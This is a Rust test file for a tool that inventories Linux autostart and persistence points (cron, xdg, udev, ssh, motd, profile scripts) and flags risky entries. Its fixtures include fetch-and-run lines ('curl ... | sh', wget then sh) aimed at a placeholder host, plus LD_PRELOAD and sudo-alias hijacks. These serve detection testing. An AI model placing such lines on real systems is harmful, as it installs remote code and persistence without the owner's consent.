use std::{
    fs,
    os::unix::fs::{PermissionsExt, symlink},
    path::Path,
};

use leaksweep_facts::{Reason, Table};
use tempfile::TempDir;

use super::*;
use crate::fixture::{mounted, write};

const HOME: &str = "home/ann";

fn disk(files: &[(&str, &[u8])]) -> (TempDir, Machine) {
    let folder = tempfile::tempdir().unwrap();
    for (path, content) in files {
        write(&folder.path().join(path), content);
    }
    let machine = mounted(folder.path());
    (folder, machine)
}

fn observed(machine: &Machine) -> Observed<Autostart> {
    let home = Home { user: "ann".into(), uid: 1000, path: Path::new("/").join(HOME) };
    collect(machine, &[home])
}

/// Way, user, name, line, schedule, program and whether it starts.
fn cells(row: &Autostart) -> String {
    let optional = |text: &Option<String>| text.clone().unwrap_or_else(|| "-".into());
    let line = row.line.map_or("-".into(), |line| line.to_string());
    let [user, schedule, program] = [&row.user, &row.schedule, &row.program].map(optional);
    [&row.way, &user, &row.name, &line, &schedule, &program, &row.starts.to_string()]
        .map(String::as_str)
        .join("|")
}

#[test]
fn each_way_gives_its_rows() {
    let (folder, machine) = disk(&[
        ("usr/bin/rustdesk", b""),
        ("etc/xdg/autostart/a.desktop", b"[Desktop Entry]\nExec=rustdesk --tray\nNotShowIn=KDE;\n"),
        ("home/ann/.config/autostart/a.desktop", b"[Desktop Entry]\nExec=x\nHidden=true\n"),
        ("home/ann/.config/autostart/note.txt", b"no entry"),
        ("home/ann/.vnc/xstartup", b"#!/bin/sh\nx11vnc -passwd hunter2 &\n"),
        ("home/ann/.config/lxsession/LXDE/autostart", b"@rustdesk\n"),
        ("etc/crontab", b"SHELL=/bin/sh\n@reboot root rustdesk\n"),
        ("etc/cron.d/old.dpkg-old", b"0 1 * * * bob /opt/b --token=t\n"),
        ("var/spool/cron/crontabs/ann", b"\n*/5 * * * * cd /tmp && ./x\n"),
        ("etc/cron.daily/job", b""),
        ("etc/rc.local", b"#!/bin/sh\n/opt/r &\nexit 0\n"),
        ("etc/inetd.conf", b"telnet stream tcp nowait root /usr/sbin/tcpd in.telnetd\n"),
        ("etc/xinetd.d/vnc", b"service vnc\n{\n disable = yes\n server = /usr/bin/Xvnc\n}\n"),
    ]);
    symlink("../rc.local", folder.path().join("etc/rc.d")).unwrap();
    let runs = fs::Permissions::from_mode(0o755);
    fs::set_permissions(folder.path().join("etc/rc.local"), runs).unwrap();
    let seen = observed(&machine);
    let expected = [
        "xdg|-|a.desktop|-|not in KDE|/usr/bin/rustdesk|true",
        "cron|root|crontab|2|@reboot|/usr/bin/rustdesk|true",
        "cron|bob|old.dpkg-old|1|0 1 * * *|/opt/b|false",
        "cron|ann|ann|2|*/5 * * * *|./x|true",
        "cron|root|job|-|@daily|/etc/cron.daily/job|false",
        "rc.local|root|rc.local|2|-|/opt/r|true",
        "inetd|root|telnet/tcp|1|-|in.telnetd|true",
        "inetd|root|vnc|1|-|/usr/bin/Xvnc|false",
        "xdg|ann|a.desktop|-|-|x|false",
        "session|ann|xstartup|2|-|x11vnc|true",
        "session|ann|autostart|1|-|/usr/bin/rustdesk|true",
    ];
    assert_eq!(seen.rows.iter().map(cells).collect::<Vec<_>>(), expected);
    let commands: Vec<_> = [2, 9].map(|at| seen.rows[at].command.as_str()).to_vec();
    assert_eq!(commands, ["/opt/b --token=***", "x11vnc -passwd *** &"]);
    assert!(seen.rows.iter().all(|row| row.modified.is_some()));
    assert_eq!(seen.problems, []);
}

#[test]
fn a_desktop_entry_whose_program_is_lacking_does_not_start() {
    let entry = |needs: &str| format!("[Desktop Entry]\nExec=a\nTryExec={needs}\n");
    let (_folder, machine) = disk(&[
        ("opt/there", b""),
        ("usr/bin/there", b""),
        ("usr/share/autostart/1.desktop", entry("/opt/there").as_bytes()),
        ("usr/share/autostart/2.desktop", entry("there").as_bytes()),
        ("usr/share/autostart/3.desktop", entry("/opt/gone").as_bytes()),
        ("usr/share/autostart/4.desktop", entry("gone").as_bytes()),
        ("usr/share/autostart/5.desktop", b"[Desktop Entry]\nName=x\n"),
        ("usr/share/autostart/6.desktop", b"[Desktop Entry]\nDBusActivatable=true\n"),
    ]);
    let starts: Vec<_> = observed(&machine).rows.iter().map(|row| row.starts).collect();
    assert_eq!(starts, [true, true, false, false, false, true]);
}

#[test]
fn what_cannot_be_read_is_a_problem_and_costs_nothing_else() {
    let (folder, machine) = disk(&[
        ("etc/cron.d/good", b"@reboot root a\n"),
        ("etc/cron.d/shadow", b"root:$6$secret:1:\n"),
        ("home/ann/.config/autostart/half.desktop", b"[Desktop En"),
        ("home/ann/.config/autostart/utf16.desktop", b"\xff\xfe[\0D\0"),
    ]);
    let huge = fs::File::create(folder.path().join("etc/cron.d/huge")).unwrap();
    huge.set_len(1 << 30).unwrap();
    fs::create_dir_all(folder.path().join(HOME).join(".xinitrc")).unwrap();
    fs::create_dir_all(folder.path().join("etc/crontab")).unwrap();
    symlink("/etc/cron.d/loop", folder.path().join("etc/cron.d/loop")).unwrap();
    let seen = observed(&machine);
    assert_eq!(
        seen.rows.iter().map(cells).collect::<Vec<_>>(),
        ["cron|root|good|1|@reboot|a|true"]
    );
    let problems: Vec<_> = seen.problems.iter().map(|p| (&*p.subject, p.reason)).collect();
    let expected = [
        ("/etc/crontab", Reason::WrongType),
        ("/etc/cron.d/huge", Reason::TooLarge),
        ("/etc/cron.d/loop", Reason::WrongType),
        ("/etc/cron.d/shadow", Reason::Malformed),
        ("/home/ann/.config/autostart/half.desktop", Reason::Malformed),
        ("/home/ann/.config/autostart/utf16.desktop", Reason::Malformed),
        ("/home/ann/.xinitrc", Reason::WrongType),
    ];
    assert_eq!(problems, expected);
    assert!(
        seen.problems.iter().all(|p| p.table == Autostart::DEF.name && !p.detail.contains('$'))
    );
}

#[test]
fn many_entries_and_long_commands_end() {
    let long = format!("@reboot {}名\n", "名".repeat(COMMAND_LENGTH / 3));
    let (_folder, machine) = disk(&[
        ("var/spool/cron/tabs/ann", &b"@daily x\n".repeat(100_000)),
        ("var/spool/cron/bob", long.as_bytes()),
    ]);
    let seen = observed(&machine);
    assert_eq!(seen.rows.len(), MAX_LINES + 1);
    assert!(seen.rows[0].command.len() <= COMMAND_LENGTH && seen.rows[0].command.len() > 4_000);
    let problems: Vec<_> =
        seen.problems.iter().map(|p| (&*p.subject, p.reason, p.columns)).collect();
    let expected: [(&str, Reason, &[&str]); 2] = [
        ("/var/spool/cron/bob", Reason::TooLarge, &["command"]),
        ("/var/spool/cron/tabs/ann", Reason::TooLarge, &[]),
    ];
    assert_eq!(problems, expected);
}

#[test]
fn one_spool_by_two_names_counts_once() {
    let (folder, machine) = disk(&[("etc/crontabs/ann", b"@reboot x\n")]);
    fs::create_dir_all(folder.path().join("var/spool/cron")).unwrap();
    symlink("/etc/crontabs", folder.path().join("var/spool/cron/crontabs")).unwrap();
    assert_eq!(observed(&machine).rows.len(), 1);
}

#[test]
fn a_machine_without_any_has_neither_rows_nor_problems() {
    let (_folder, machine) = disk(&[]);
    assert_eq!(observed(&machine), Observed::default());
}

/// Way, event, user, path, line, program and whether it starts.
fn placed(row: &Autostart) -> String {
    let optional = |text: &Option<String>| text.clone().unwrap_or_else(|| "-".into());
    let line = row.line.map_or("-".into(), |line| line.to_string());
    let [user, program] = [&row.user, &row.program].map(optional);
    [&row.way, &row.event, &user, &row.path, &line, &program, &row.starts.to_string()]
        .map(String::as_str)
        .join("|")
}

fn runs(folder: &TempDir, paths: &[&str]) {
    for path in paths {
        let mode = fs::Permissions::from_mode(0o755);
        fs::set_permissions(folder.path().join(path), mode).unwrap();
    }
}

#[test]
fn each_further_way_gives_its_rows() {
    let (folder, machine) = disk(&[
        ("var/spool/cron/atjobs/a0000101c3a4b0", b"#!/bin/sh\ncd / || {\n}\n/opt/at\n"),
        ("etc/anacrontab", b"1 5 x /opt/ana\n"),
        ("etc/profile.d/x.sh", b"/opt/p &\n"),
        ("etc/environment", b"LD_PRELOAD=/opt/x.so\n"),
        ("home/ann/.bashrc", b"# x\nalias sudo='/opt/s'\n"),
        ("etc/udev/rules.d/1.rules", b"RUN+=\"/opt/u\"\n"),
        ("usr/lib/udev/rules.d/1.rules", b"RUN+=\"/opt/shadowed\"\n"),
        ("etc/network/interfaces", b"iface x inet dhcp\n up /opt/n\n"),
        ("etc/NetworkManager/dispatcher.d/pre-up.d/9", b"#!/bin/sh\n"),
        ("usr/share/dbus-1/system-services/a.service", b"[D-BUS Service]\nExec=/opt/d\nUser=bus\n"),
        ("home/ann/.local/share/dbus-1/services/b.service", b"[D-BUS Service]\nExec=/bin/false\n"),
        ("etc/systemd/system-generators/g", b"#!/bin/sh\n"),
        ("usr/lib/systemd/system-generators/g", b"\x7fELF\0"),
        ("usr/share/applications/f.desktop", b"[Desktop Entry]\nExec=firefox\n"),
        ("home/ann/.local/share/applications/f.desktop", b"[Desktop Entry]\nExec=/opt/f\n"),
        ("usr/share/applications/g.desktop", b"[Desktop Entry]\nExec=same\n"),
        ("home/ann/.local/share/applications/g.desktop", b"[Desktop Entry]\nExec=same\n"),
        ("home/ann/.local/share/applications/h.desktop", b"[Desktop Entry]\nExec=own\n"),
        ("etc/logrotate.d/l", b"/x {\npostrotate\n/opt/l\nendscript\n}\n"),
        ("home/ann/.ssh/config", b"Host *\nProxyCommand /opt/c %h\n"),
        ("home/ann/.ssh/rc", b"/opt/rc\n"),
        ("etc/update-motd.d/50-x", b"#!/bin/sh\ncurl -s http://192.0.2.7/x | sh\n"),
        ("usr/lib/systemd/system-sleep/s", b"#!/bin/sh\n"),
        ("etc/kernel/postinst.d/k", b"#!/bin/sh\n"),
        ("etc/initramfs-tools/scripts/init-top/i", b"#!/bin/sh\n"),
        ("etc/bash_completion.d/c", b"complete x\n"),
        ("etc/dhcp/dhclient-exit-hooks.d/h", b"x\n"),
    ]);
    runs(
        &folder,
        &[
            "var/spool/cron/atjobs/a0000101c3a4b0",
            "etc/NetworkManager/dispatcher.d/pre-up.d/9",
            "etc/systemd/system-generators/g",
            "usr/lib/systemd/system-generators/g",
            "etc/update-motd.d/50-x",
            "etc/kernel/postinst.d/k",
            "etc/initramfs-tools/scripts/init-top/i",
        ],
    );
    let owner = rustix::process::getuid().as_raw();
    let seen = observed(&machine);
    let mut rows: Vec<String> = seen.rows.iter().map(placed).collect();
    rows.sort();
    let at = format!("at|clock|{owner}|/var/spool/cron/atjobs/a0000101c3a4b0|4|/opt/at|true");
    let expected = [
        &at,
        "completion|shell|-|/etc/bash_completion.d/c|-|-|true",
        "cron|clock|root|/etc/anacrontab|1|/opt/ana|true",
        "dbus|message|ann|/home/ann/.local/share/dbus-1/services/b.service|2|/bin/false|false",
        "dbus|message|bus|/usr/share/dbus-1/system-services/a.service|2|/opt/d|true",
        "generator|boot|root|/etc/systemd/system-generators/g|-|/etc/systemd/system-generators/g|true",
        "generator|boot|root|/usr/lib/systemd/system-generators/g|-|/usr/lib/systemd/system-generators/g|false",
        "initramfs|boot|root|/etc/initramfs-tools/scripts/init-top/i|-|/etc/initramfs-tools/scripts/init-top/i|true",
        "kernel|kernel|root|/etc/kernel/postinst.d/k|-|/etc/kernel/postinst.d/k|true",
        "logrotate|clock|root|/etc/logrotate.d/l|3|/opt/l|true",
        "menu|command|ann|/home/ann/.local/share/applications/f.desktop|-|/opt/f|true",
        "motd|log-in|root|/etc/update-motd.d/50-x|-|/etc/update-motd.d/50-x|true",
        "network|network|root|/etc/NetworkManager/dispatcher.d/pre-up.d/9|-|/etc/NetworkManager/dispatcher.d/pre-up.d/9|true",
        "network|network|root|/etc/dhcp/dhclient-exit-hooks.d/h|-|/etc/dhcp/dhclient-exit-hooks.d/h|true",
        "network|network|root|/etc/network/interfaces|2|/opt/n|true",
        "profile|log-in|-|/etc/environment|1|-|true",
        "profile|log-in|-|/etc/profile.d/x.sh|1|/opt/p|true",
        "profile|shell|ann|/home/ann/.bashrc|2|/opt/s|true",
        "sleep|sleep|root|/usr/lib/systemd/system-sleep/s|-|/usr/lib/systemd/system-sleep/s|false",
        "ssh|command|ann|/home/ann/.ssh/config|2|/opt/c|true",
        "ssh|log-in|ann|/home/ann/.ssh/rc|1|/opt/rc|true",
        "udev|device|root|/etc/udev/rules.d/1.rules|1|/opt/u|true",
        "udev|device|root|/usr/lib/udev/rules.d/1.rules|1|/opt/shadowed|false",
    ];
    assert_eq!(rows, expected);
    let traits = |way: &str| seen.rows.iter().find(|row| row.way == way).unwrap().traits.clone();
    assert_eq!(traits("motd").as_deref(), Some("download"));
    let time = seen.rows.iter().find(|row| row.way == "at").unwrap().schedule.clone();
    assert_eq!(time.as_deref(), Some("2026-04-11T18:56:00Z"));
    assert_eq!(seen.problems, []);
}

#[test]
fn folders_of_programs_hold_what_they_should_not() {
    let (folder, machine) = disk(&[("etc/update-motd.d/good", b"#!/bin/sh\n")]);
    let inside = |name: &str| folder.path().join("etc/update-motd.d").join(name);
    rustix::fs::mknodat(
        rustix::fs::CWD,
        inside("pipe"),
        rustix::fs::FileType::Fifo,
        rustix::fs::Mode::from_raw_mode(0o755),
        0,
    )
    .unwrap();
    symlink("/nowhere", inside("gone")).unwrap();
    symlink("/etc/update-motd.d/loop", inside("loop")).unwrap();
    fs::create_dir_all(folder.path().join("etc/udev/rules.d/x.rules")).unwrap();
    fs::create_dir_all(folder.path().join("etc/profile")).unwrap();
    let name = <std::ffi::OsStr as std::os::unix::ffi::OsStrExt>::from_bytes(b"a\nb\xff");
    write(&folder.path().join("etc/update-motd.d").join(name), b"x");
    let seen = observed(&machine);
    let names: Vec<_> = seen.rows.iter().map(|row| row.name.as_str()).collect();
    assert_eq!(names, ["a\nb\\xff", "good"]);
    let problems: Vec<_> = seen.problems.iter().map(|p| (&*p.subject, p.reason)).collect();
    let expected =
        [("/etc/profile", Reason::WrongType), ("/etc/update-motd.d/pipe", Reason::WrongType)];
    assert_eq!(problems, expected);
}

#[test]
fn what_only_several_lines_do_together_is_a_row_of_the_file() {
    let (_folder, machine) = disk(&[
        ("etc/profile.d/x.sh", b"wget -q http://192.0.2.7/a.sh\nLANG=C\nsh a.sh\n"),
        ("home/ann/.xinitrc", b"curl -s http://192.0.2.7/x | sh\n"),
    ]);
    let seen = observed(&machine);
    let rows: Vec<_> =
        seen.rows.iter().map(|row| (&*row.name, row.line, row.traits.as_deref())).collect();
    let expected = [
        ("x.sh", Some(1), None),
        ("x.sh", Some(3), None),
        ("x.sh", None, Some("download")),
        (".xinitrc", Some(1), Some("download")),
    ];
    assert_eq!(rows, expected);
    assert_eq!(seen.rows[2].command, "/etc/profile.d/x.sh");
}
